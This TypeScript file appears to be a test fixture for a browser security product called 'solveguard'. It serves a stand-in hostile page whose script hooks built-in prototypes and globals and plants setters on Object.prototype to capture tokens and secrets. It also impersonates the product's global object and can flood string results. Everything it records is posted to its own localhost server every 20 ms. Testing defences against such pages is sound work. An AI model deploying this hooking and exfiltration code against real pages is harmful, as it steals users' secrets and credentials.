import { readRequestText, reply, serve } from '../../src/testing/shared/http.js'
import { eventually } from './tool.js'

/** A page of another origin that reads everything which is evaluated in it, and sends it to its server. */
export interface Thief extends AsyncDisposable {
  readonly url: string
  /** Everything that its pages have recorded. */
  recorded(): string
  /** Waits until what its page had recorded before this call has arrived. Resolves at once if it has no page open. */
  settled(): Promise<void>
  /** Forgets the calls that were recorded, and which pages were opened. */
  reset(): void
}

/**
 * Records every text that passes through a built-in, in arguments, in `this`, and in the source of functions; answers
 * in place of the code of solveguard, with a one-time pad that it knows; and returns every text 30 million times as
 * long, if `flood` is set.
 */
function steal(flood: boolean): void {
  const apply = Reflect.apply
  const source = Function.prototype.toString
  const { isArray } = Array
  const { ownKeys, getOwnPropertyDescriptor: describe } = Reflect
  const define = Object.defineProperty
  const write = JSON.stringify
  const request = window.fetch.bind(window)
  const later = window.setInterval.bind(window)
  const join = Array.prototype.join
  const seen = new Set<unknown>()
  const add = Set.prototype.add
  const known = Set.prototype.has
  const texts: string[] = []
  const { repeat } = String.prototype
  // Its own calls are not recorded.
  let busy = true
  let left = 0

  const record = (value: unknown, depth = 0): void => {
    if (left-- <= 0) return
    if (typeof value === 'string') {
      if (value.length > 8 && !apply(known, seen, [value])) {
        apply(add, seen, [value])
        texts[texts.length] = value
      }
    } else if (typeof value === 'function') {
      record(apply(source, value, []), depth)
    } else if (typeof value === 'object' && value !== null && depth < 5 && value !== window) {
      if (isArray(value) && value.length > 8 && typeof value[0] === 'number') record(apply(join, value, [',']))
      for (const key of ownKeys(value)) {
        const held = describe(value, key)
        if (held && 'value' in held) record(held.value, depth + 1)
      }
    }
  }
  const listen = (...values: unknown[]): void => {
    if (busy) return
    busy = true
    left = 300
    try {
      for (const value of values) record(value)
      const caller = (listen as { caller?: unknown }).caller
      if (caller) record(caller)
    } catch {
      // Something that cannot be read.
    } finally {
      busy = false
    }
  }
  const hook = (owner: object, key: PropertyKey): void => {
    const held = describe(owner, key)
    if (!held?.configurable || typeof held.value !== 'function') return
    const original = held.value
    const hooked = function (this: unknown, ...given: unknown[]): unknown {
      if (!busy) listen(this, given)
      if (new.target) return Reflect.construct(original, given, new.target)
      const result = apply(original, this, given)
      return flood && !busy && typeof result === 'string' ? apply(repeat, '\u0001', [3e7]) : result
    }
    try {
      for (const own of ownKeys(original)) {
        const part = describe(original, own)
        if (part) define(hooked, own, part)
      }
    } catch {
      // A property that a function has already.
    }
    define(owner, key, { ...held, value: hooked })
  }
  const skipped = new Set<PropertyKey>(['constructor', 'Reflect', 'Object', 'Set', 'Symbol', 'fetch', 'setInterval'])
  const prototypes = [Function, Array, String, Promise, Map, RegExp, Object, Number, Element, Document, Node, WeakMap]
  for (const { prototype } of prototypes)
    for (const key of ownKeys(prototype)) if (!skipped.has(key)) hook(prototype, key)
  for (const owner of [JSON, Object, Array, String, Promise]) {
    for (const key of ownKeys(owner)) if (key !== 'prototype') hook(owner, key)
  }
  for (const key of ['eval', 'Function', 'setTimeout', 'queueMicrotask', 'atob', 'TextDecoder', 'postMessage']) {
    hook(window, key)
  }
  const secret = apply(repeat, '0', [64])
  const ok = write({ result: 'ok' })
  const answers: Record<string, (...given: unknown[]) => unknown> = {
    pad: (length) => write({ secret, id: 1, numbers: apply(repeat, '0000', [length]) }),
    find: () =>
      write({ doc: 'd0', secret, origin: location.origin, loading: false, omitted: 0, roots: 0, widgets: [] }),
  }
  const main = new Proxy(
    {},
    {
      get:
        (_, name) =>
        (...given: unknown[]) => {
          listen(given)
          return answers[String(name)]?.(...given) ?? ok
        },
    },
  )
  define(window, Symbol.for('solveguard'), { get: () => ({ main, undo() {} }), set() {}, configurable: true })

  let sent = 0
  later(() => {
    busy = true
    const news: string[] = []
    for (; sent < texts.length; sent++) news[news.length] = texts[sent] as string
    const body = write(news)
    void request('/recorded', { method: 'POST', body }).catch(() => undefined)
    busy = false
  }, 20)

  // Last: every property descriptor that is made after this inherits these.
  for (const key of ['token', 'fields', 'value', 'type', 'pad', 'lifetimeMs', 'args', 'then', 'o', 'k', 'v']) {
    const setter = {
      __proto__: null,
      configurable: true,
      get: () => undefined,
      set(this: object, value: unknown) {
        listen(value)
        define(this, key, { __proto__: null, value, configurable: true, enumerable: true, writable: true } as object)
      },
    }
    define(Object.prototype, key, setter as object)
  }
  busy = false
}

/** Starts its server: `http://localhost:<port>`, another origin than that of every stand-in's page. */
export async function startThief({ flood = false } = {}): Promise<Thief> {
  let recorded: string[] = []
  let opened = 0
  let posts = 0
  const server = await serve(async (request, response) => {
    recorded.push(`${request.url} ${JSON.stringify(request.headers)}`)
    if (request.method === 'POST') {
      recorded.push((await readRequestText(request)) ?? '')
      posts++
      return reply(response, 'json', '{}')
    }
    if (request.url !== '/') return reply(response, 'html', '', { status: 204 })
    opened++
    return reply(response, 'html', `<!doctype html><script>(${steal})(${flood})</script><p id="thief">A page`)
  })
  return {
    url: `http://localhost:${server.port}/`,
    recorded: () => recorded.join('\n'),
    async settled() {
      if (opened === 0) return
      const before = posts
      await eventually(() => posts >= before + 3)
    },
    reset() {
      recorded = []
      opened = 0
    },
    [Symbol.asyncDispose]: () => server.close(),
  }
}
